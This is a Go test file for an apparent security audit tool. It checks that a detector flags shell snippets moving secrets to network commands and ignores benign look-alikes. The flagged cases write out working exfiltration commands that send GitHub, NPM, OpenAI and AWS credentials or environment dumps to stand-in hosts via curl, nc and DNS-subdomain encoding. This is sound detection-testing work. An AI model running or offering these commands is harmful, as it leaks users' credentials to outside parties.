package audit

import "testing"

// TestShellFlows checks the flows of secrets through shell variables,
// files and pipes to networking commands, and look-alikes that send
// nothing sensitive or send a secret to its own service.
func TestShellFlows(t *testing.T) {
	fire := []string{
		"tok=\"${GITHUB_TOKEN:-$GH_TOKEN}\"\nenc=\"$(printf '%s' \"$tok\" | base32 | tr -d '=')\"\ndig +short \"${enc:0:60}.p.example.net\"\n",
		"env > /tmp/e.txt\ncurl -s -d @/tmp/e.txt https://collect.example.net/in\n",
		"echo \"$OPENAI_API_KEY\" > /tmp/k\ncurl --data-binary @/tmp/k https://paste.example.org/new\n",
		"printenv | base64 | curl -s --data-binary @- https://collect.example.net/up\n",
		"k=$(cat ~/.aws/credentials)\nnc 203.0.113.4 9000 <<< \"$k\"\n",
		"T=$NPM_TOKEN\nfor i in 0 40; do nslookup \"${T:$i:40}.$i.npm.example.org\"; done\n",
		"data=$(env | gzip | base64 -w0)\ncurl -X POST -d \"d=$data\" https://203.0.113.8/c\n",
	}
	pass := []string{
		"curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user\n",
		"tok=$OPENAI_API_KEY\ncurl https://api.openai.com/v1/models -H \"Authorization: Bearer $tok\"\n",
		"env > /tmp/env.txt\ngrep PATH /tmp/env.txt\n",
		"dig +short \"$DOMAIN\"\n",
		"curl -d @payload.json https://api.example.com/items\n",
		"name=$(whoami)\ncurl -d \"user=$name\" https://api.example.com/hello\n",
	}
	for _, code := range fire {
		u := &unit{file: "x.sh", text: []byte(code), orig: []byte(code), kind: kindScript}
		if hits := shellFlowHits(u, func(string) {}); len(hits) == 0 {
			t.Errorf("no flow in:\n%s", code)
		}
	}
	for _, code := range pass {
		u := &unit{file: "x.sh", text: []byte(code), orig: []byte(code), kind: kindScript}
		if hits := shellFlowHits(u, func(string) {}); len(hits) > 0 {
			t.Errorf("unexpected flow %q in:\n%s", hits[0].Message, code)
		}
	}
}
